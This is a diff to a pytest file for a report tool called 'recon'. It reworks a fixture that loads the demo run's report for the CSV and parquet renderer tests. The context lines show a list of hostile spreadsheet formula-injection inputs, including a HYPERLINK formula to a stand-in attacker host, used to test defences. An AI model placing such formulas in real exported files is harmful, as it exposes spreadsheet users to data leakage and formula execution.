@@ -15,6 +15,7 @@ import pyarrow as pa  # type: ignore[import-untyped]
 import pyarrow.parquet as pq  # type: ignore[import-untyped]
 import pytest
 
+from recon.config import load_config
 from recon.demo import run_demo
 from recon.store import open_store
 from reports import RENDERERS, ReportData, load_report
@@ -30,8 +31,11 @@ HOSTILE = ['=HYPERLINK("http://evil.example/?x","click")', "+1+1", "-2+3", "@SUM
 
 @pytest.fixture(scope="module")
 def demo(tmp_path_factory: pytest.TempPathFactory) -> ReportData:
-    _, _, data = run_demo(tmp_path_factory.mktemp("demo"))
-    return data
+    """The demo run's report read as `recon report --format csv,parquet` reads it: with every result row."""
+    workdir = tmp_path_factory.mktemp("demo")
+    _, summary, _ = run_demo(workdir)
+    with open_store(load_config(workdir / "recon.toml"), write=False) as con:
+        return load_report(con, None, summary.run_id, "Asia/Shanghai")
 
 
 def read_csv(path: Path) -> tuple[str, list[list[str]]]:
